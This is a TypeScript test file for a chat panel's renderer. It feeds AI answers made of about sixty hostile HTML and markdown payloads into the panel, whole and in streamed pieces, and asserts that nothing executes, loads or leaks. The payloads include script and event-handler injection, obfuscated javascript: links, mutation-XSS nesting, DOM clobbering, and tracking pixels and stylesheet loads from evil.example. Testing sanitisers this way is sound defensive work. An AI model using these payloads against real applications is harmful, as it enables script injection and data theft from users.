import { expect, test } from 'vitest';
import type { AnswerPart, Attachment } from '../../src/protocol/conversation.ts';
import { panels } from './context.ts';
import { answer, question, snapshot } from './scenarios.ts';

const openPanel = panels();

const CALL = 'window.hacked=1';

/** Answers that want to run something, load something or break out of their place. */
const hostile: readonly string[] = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${CALL}">`,
  `<img src="https://evil.example/pixel.png">`,
  `![pixel](https://evil.example/pixel.png)`,
  `![x](data:image/svg+xml,<svg onload=${CALL}>)`,
  `![x](javascript:${CALL})`,
  `[x](javascript:${CALL})`,
  `[x](JaVaScRiPt:${CALL})`,
  `[x](java&#115;cript:${CALL})`,
  `[x](&#x6A;avascript:${CALL})`,
  `[x](java&Tab;script:${CALL})`,
  `[x](<java\tscript:${CALL}>)`,
  `[x](data:text/html,<script>${CALL}</script>)`,
  `[x](vbscript:${CALL})`,
  `[x](command:workbench.action.quit)`,
  `[x](vscode://file/etc/passwd)`,
  `[x](file:///etc/passwd)`,
  `[x][1]\n\n[1]: javascript:${CALL}`,
  `<javascript:${CALL}>`,
  `[x](https://example.com" onclick="${CALL})`,
  `[x](https://example.com "title\\" onmouseover=\\"${CALL}")`,
  `<svg onload="${CALL}"><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${CALL}"></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>x</button></form>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<details open ontoggle="${CALL}">x</details>`,
  `<video><source onerror="${CALL}"></video>`,
  `<body onload="${CALL}">`,
  `<input autofocus onfocus="${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/z)">x</div>`,
  `<p id="root">clobbered</p><form id="host"></form>`,
  `\`\`\`html\n<script>${CALL}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${CALL}>\ncode\n\`\`\``,
  `| a |\n| - |\n| <img src=x onerror=${CALL}> |`,
  `# <script>${CALL}</script>`,
  `> <iframe src=https://evil.example></iframe>`,
  `- <img src=x onerror=${CALL}>`,
  `**<img src=x onerror=${CALL}>**`,
  `\`</code><script>${CALL}</script>\``,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `<!--><script>${CALL}</script>-->`,
  `<![CDATA[><script>${CALL}</script>]]>`,
  `\u202Ejavascript:${CALL}`,
  `[x](https://user:pass@evil.example/)`,
  `<kbd onclick="${CALL}">x</kbd> <sub style="position:fixed">y</sub>`,
  `<details>\n<summary><img src=x onerror=${CALL}></summary>\n\n<script>${CALL}</script>\n\n</details>`,
  `[^"><img/src=x/onerror=${CALL}>]\n\n[^"><img/src=x/onerror=${CALL}>]: <script>${CALL}</script>`,
  `\\(<img src=x onerror=${CALL}>\\) $<script>${CALL}</script>$`,
];

/** Everything that an answer may be made of. */
const ALLOWED = new Set(
  (
    'a article blockquote br button code del details div em footer h3 h4 h5 h6 hr kbd li ol p path pre section span strong ' +
    'sub summary sup svg table tbody td th thead tr ul'
  ).split(' '),
);

const ATTRIBUTES =
  /^(class|dir|disabled|href|lang|title|rel|role|tabindex|type|start|scope|aria-[a-z]+|data-turn|data-code|data-note|data-reference|viewBox|width|height|focusable|d|open)$/;

test('hostile answers do nothing, whole or in pieces', { timeout: 120_000 }, async () => {
  const turns = hostile.map((text, index) => answer({ id: `h${index}`, text }));
  const parts = hostile.flatMap((text): readonly AnswerPart[] => [
    { type: 'call', name: text, input: text, whole: true },
    { type: 'image', url: text },
    { type: 'source', url: text, title: text },
    { type: 'source', url: `javascript:${CALL}`, title: text },
    { type: 'image', url: 'https://evil.example/pixel.png' },
  ]);
  const attachments = hostile.map((text): Attachment => ({
    kind: 'image',
    name: text,
    languageId: text,
    content: text,
  }));
  const panel = await openPanel(
    snapshot(
      [
        question('hq', hostile.join('\n'), { attachments }),
        ...turns,
        answer({ id: 'hp', parts }),
        answer({ status: 'streaming' }),
      ],
      { busy: true },
    ),
  );
  const { page } = panel;
  let sequence = 1;
  for (const text of hostile) {
    const whole = `${text}\n\n`;
    for (let at = 0; at < whole.length; at += 7) {
      sequence += 1;
      const piece = whole.slice(at, at + 7);
      await panel.send({ type: 'delta', sequence, turn: 'a', part: 0, kind: 'reasoning', text: piece });
      sequence += 1;
      await panel.send({ type: 'delta', sequence, turn: 'a', part: 1, kind: 'text', text: piece });
    }
  }
  await page.evaluate(() => document.querySelectorAll('details').forEach((element) => (element.open = true)));
  await page.waitForTimeout(500);

  const found = await page.evaluate(() =>
    [...document.querySelectorAll('[role=log] *')].map((element) => ({
      name: element.localName,
      attributes: [...element.attributes].map(({ name }) => name),
      href: element.getAttribute('href'),
    })),
  );
  expect(found.length).toBeGreaterThan(500);
  expect(found.filter(({ name }) => !ALLOWED.has(name))).toEqual([]);
  expect(found.flatMap(({ attributes }) => attributes).filter((name) => !ATTRIBUTES.test(name))).toEqual([]);
  expect(found.flatMap(({ href }) => href ?? []).filter((href) => !/^(https?|mailto):/.test(href))).toEqual([]);

  for (const link of await page.locator('[role=log] a').all()) await link.dispatchEvent('click');
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(await page.title()).toBe('Turnpike');
  // the tab, the page, its two scripts and its style; `panels` checks where they went
  expect(panel.requests).toHaveLength(5);
});
